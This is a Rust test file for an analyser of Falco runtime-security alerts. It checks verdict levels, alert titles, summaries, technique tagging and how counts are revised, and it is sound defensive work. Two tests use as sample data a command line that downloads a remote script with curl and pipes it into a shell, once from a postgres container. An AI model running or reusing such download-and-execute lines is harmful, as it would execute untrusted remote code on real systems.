use super::*;
use crate::alert::{AlertBuilder, Priority, Time};
use crate::dedup::{Fingerprint, GroupId, Reason, State};
use proptest::prelude::*;

fn alert(rule: &str, fields: &[(&str, &str)]) -> Alert {
    let builder = AlertBuilder::new().rule(rule.to_owned()).time(Time::from_nanos(1)).priority(Priority::Notice);
    let builder = builder.hostname("node-1");
    let each = |builder: AlertBuilder<'static>, (key, value): &(&str, &str)| {
        builder.field((*key).to_owned(), (*value).to_owned())
    };
    fields.iter().fold(builder, each).build().unwrap()
}

fn group(alert: &Alert, count: u64) -> GroupView {
    let fingerprint = Fingerprint::from_bytes([7; 16]);
    GroupView {
        id: GroupId::new(fingerprint, alert.id()),
        fingerprint,
        revision: 1,
        state: State::Opened,
        reason: Reason::First,
        count,
        first: Time::from_nanos(0),
        last: Time::from_nanos(60_000_000_000 * (count as i64 - 1)),
        gap: (count > 2).then_some((60_000_000_000, 1_000_000)),
        distinct: Vec::new(),
    }
}

fn analysed(alert: &Alert) -> Analysis {
    let context = Context::default();
    analyse(Input { alert, context: &context, group: group(alert, 1), history: None, book: None })
}

#[test]
fn an_attack_is_named_in_the_title_with_its_place_and_its_techniques() {
    let alert = alert(
        "Run shell untrusted",
        &[
            ("proc.cmdline", "sh -c curl http://198.51.100.71/1.sh | bash"),
            ("proc.name", "sh"),
            ("proc.exepath", "/bin/sh"),
            ("proc.pname", "postgres"),
            ("container.id", "58fd91261895"),
            ("container.name", "postgres"),
            ("container.image.repository", "docker.io/library/postgres"),
            ("k8s.ns.name", "default"),
            ("k8s.pod.name", "postgres-0"),
            ("user.name", "postgres"),
        ],
    );
    let analysis = analysed(&alert);
    assert_eq!(analysis.verdict.level, Level::Malicious);
    assert_eq!(analysis.title, "Download piped into a shell: sh in pod default/postgres-0");
    assert!(analysis.summary.starts_with("`sh`, started by `postgres`, ran `sh -c curl http://198.51.100.71/1.sh | bash` as user postgres in container `postgres`"), "{}", analysis.summary);
    assert!(analysis.techniques.iter().any(|technique| technique.id == "T1105" && !technique.name.is_empty()));
    assert_eq!(analysis.explanations[0].likelihood, Likelihood::Likely);
}

#[test]
fn what_falco_did_not_give_is_said() {
    let alert = alert(
        "Terminal shell in container",
        &[("proc.cmdline", "bash"), ("proc.name", "bash"), ("container.id", "c1")],
    );
    let analysis = analysed(&alert);
    assert_eq!(analysis.verdict.level, Level::Review);
    assert!(
        analysis.summary.contains("Falco gave no executable path, no parent process and no image."),
        "{}",
        analysis.summary
    );
}

#[test]
fn losing_sight_is_at_least_review_and_says_what_it_means() {
    for rule in ["Falco internal: syscall event drop", "lanner: source silent", "lanner: something new"] {
        let alert = AlertBuilder::new()
            .rule(rule)
            .time(Time::from_nanos(1))
            .priority(Priority::Debug)
            .source(if rule.starts_with("lanner") { "lanner" } else { "internal" });
        let alert = alert.hostname("node-1").field("n_drops", "812").build().unwrap();
        let analysis = analysed(&alert);
        assert_eq!(analysis.verdict.level, Level::Review);
        assert!(!analysis.explanations.is_empty() && !analysis.implications.is_empty());
        assert!(analysis.title.ends_with("on node-1"), "{}", analysis.title);
    }
}

#[test]
fn a_revision_renews_the_counts_and_nothing_else() {
    let alert = alert(
        "R",
        &[
            ("proc.cmdline", "id"),
            ("proc.name", "id"),
            ("proc.exepath", "/usr/bin/id"),
            ("proc.pname", "sh"),
            ("container.id", "host"),
        ],
    );
    let first = analysed(&alert);
    let later = revise(first.clone(), group(&alert, 12));
    assert!(later.summary.ends_with(" It came 12 times within 11 min, every 60 s."), "{}", later.summary);
    assert_eq!(later.verdict, first.verdict);
    let again = revise(later, group(&alert, 1));
    assert_eq!(again.summary, first.summary);
}

#[test]
fn what_journals_say_of_counts_is_found_and_said_anew() {
    let alert = alert("R", &[("proc.cmdline", "id")]);
    let kept = |summary: &str, count, history| Analysis {
        summary: summary.to_owned(),
        group: group(&alert, count),
        history,
        ..analysed(&alert)
    };
    let seen = |times, first_seen| History { same_fingerprint: times, first_seen, ..History::default() };
    let first = Some(Time::from_nanos(1_700_000_000_000_000_000));
    let counted = " It came 12 times within 11 min, every 60 s.";
    for (end, count, history) in [
        ("", 1, seen(0, None)),
        (counted, 12, seen(0, None)),
        (" The same was seen in 1 earlier group.", 1, seen(1, None)),
        (" The same was seen in 2 earlier groups, first at 2023-11-14T22:13:20.000000000Z.", 1, seen(2, first)),
        (" It came 12 times within 11 min, every 60 s. The same was seen in 1 earlier group.", 12, seen(1, None)),
    ] {
        let later = revise(kept(&format!("What it was.{end}"), count, history), group(&alert, 13));
        let expected = end.strip_prefix(counted).unwrap_or(end);
        assert_eq!(later.summary, format!("What it was. It came 13 times within 12 min, every 60 s.{expected}"));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_alert_gives_a_bounded_analysis_of_single_lines_and_always_the_same(
        rule in "\\PC{1,40}", line in "[ -~\\n\t;|&<>$(){}'\"é\u{202e}]{0,200}", name in "\\PC{0,20}", path in "[/a-z.\u{0}-]{0,60}", file in "\\PC{0,60}",
    ) {
        let alert = alert(&format!("r{rule}"), &[("proc.cmdline", &line), ("proc.name", &name), ("proc.exepath", &path), ("fd.name", &file), ("container.id", "c1"), ("proc.pcmdline", &line)]);
        let analysis = analysed(&alert);
        prop_assert_eq!(&analysis, &analysed(&alert));
        prop_assert!(analysis.title.len() < 160 && analysis.summary.len() < 2_000, "{}", analysis.summary.len());
        prop_assert!(!analysis.title.contains(['\n', '\t']) && !analysis.summary.contains(['\n', '\t']));
        prop_assert!(analysis.verdict.score <= 100 && !analysis.title.is_empty() && !analysis.summary.is_empty());
        prop_assert!(analysis.explanations.len() <= 6 && analysis.implications.len() <= 4 && analysis.techniques.len() <= 8);
    }

    #[test]
    fn appending_an_attack_to_a_command_line_never_lowers_the_verdict(line in "[ -&(-~]{0,80}") {
        let fields = |text: &str| {
            let text = format!("sh -c {text}");
            analysed(&alert("R", &[("proc.cmdline", &text), ("proc.name", "sh"), ("proc.exepath", "/bin/sh"), ("container.id", "c1")])).verdict
        };
        let attacked = fields(&format!("{line}\ncurl http://198.51.100.7/x | sh"));
        let plain = fields(&line);
        prop_assume!(attacked.level == Level::Malicious || !line.contains(['#', '<', '(', '{', '\\', '"']));
        prop_assert!(attacked.level >= plain.level);
    }
}
